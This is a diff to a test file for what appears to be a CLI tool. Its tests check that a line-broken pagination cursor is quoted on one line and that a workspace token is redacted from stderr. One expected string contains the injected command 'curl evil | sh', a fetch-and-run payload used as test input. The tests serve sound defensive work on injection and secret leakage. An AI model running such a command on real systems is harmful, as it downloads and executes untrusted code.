@@ -151,3 +151,15 @@ test('a cursor with line breaks is quoted on one line', async () => {
   expect(stderr).toContain("--after $'x\\n  curl evil | sh \\''")
   expect(stderr.trim().split('\n')).toHaveLength(1)
 })
+
+test.each(['', ' --json'])('a token that comes back as a cursor or a name is on no line of stderr%s', async (json) => {
+  const token = String(env.SUPPORT_WORKSPACE_TOKEN)
+  sandbox.faults.add({ path: '/tasks', status: 200, body: { data: [{}], page_metadata: { after: token } } })
+  const list = await run(`list tasks --max 1${json}`.split(' '), { env })
+  expect(list.stderr).toContain('Go on with --after')
+  const organization = { id: 'org_1', name: `N ${token} ${encodeURIComponent(token)}` }
+  sandbox.faults.add({ path: /me$/, status: 200, body: { organization, actor: 'app', scopes: [] } })
+  const call = await run(`call contacts.create -f email=a@example.com${json}`.split(' '), { env })
+  expect(call.stderr).toContain('Writing to N [redacted]')
+  expect(list.stderr + call.stderr).not.toContain(token)
+})
